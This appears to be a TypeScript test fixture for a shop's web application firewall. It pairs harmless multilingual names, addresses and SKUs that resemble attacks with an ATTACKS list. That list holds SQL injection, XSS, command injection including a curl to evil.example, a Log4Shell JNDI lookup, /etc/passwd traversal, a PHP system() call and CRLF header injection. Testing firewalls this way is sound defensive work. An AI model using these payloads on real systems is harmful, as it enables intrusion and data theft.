// What a firewall has to let through though it looks like an attack, and attacks.

/** Each is refused without an exclusion, but for the last two. */
export const SKUS = [
  'having-fun-tee',
  'time & tide clock',
  'SYSTEM (5.1)',
  'tee "or" mug',
  'A/../B',
  '株式会社',
  'Кружка моя',
  'বানিয়াচং',
  'قميص-أزرق',
  'größe-ß şapka-İ'
]
export const HARMLESS = SKUS.slice(-2)

/** What shoppers type, by field. Each is refused without an exclusion. */
export const TYPED: Record<string, string[]> = {
  email: ["d'or@example.fr", '株式会社@example.jp'],
  name: ['株式会社山田', 'Дмитрий Шостакович', 'สายชล บางกระโทก', 'Dr. Sleep (10)'],
  organization: ['株式会社ソニー', 'System (Berlin) GmbH', 'Cut & Curl', 'ДП ТрейдТоргТорг'],
  address1: ['1 or 3 Drop Ave', "Rue de l'Or 1 or 2", 'Having House, 3 Not In Lane'],
  address2: ['(call; time 5pm)'],
  district: ['ব্রাহ্মণবাড়িয়া'],
  city: ['Чаир', 'বানিয়াচং'],
  state: ['Сумська область', 'گلگت بلتستان'],
  phone: ['моб. 555 0100'],
  giftNote: [
    'Have fun; time flies!',
    'С днём рождения, мама!',
    'A speaker system (finally)!',
    'よろしくお願いします。株式会社'
  ]
}

export const ATTACKS = [
  "1' OR '1'='1",
  "' UNION SELECT email, name FROM orders--",
  '1; DROP TABLE orders--',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '; cat /etc/passwd',
  '$(curl http://evil.example/x)',
  `\${jndi:ldap://evil.example/a}`,
  '../../../../etc/passwd',
  'file:///etc/passwd',
  '<?php system("id"); ?>',
  'a\r\nSet-Cookie: a=b'
]

/** Refused in the fields of the order form, too. */
export const MARKUP = ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<?php system("id"); ?>']
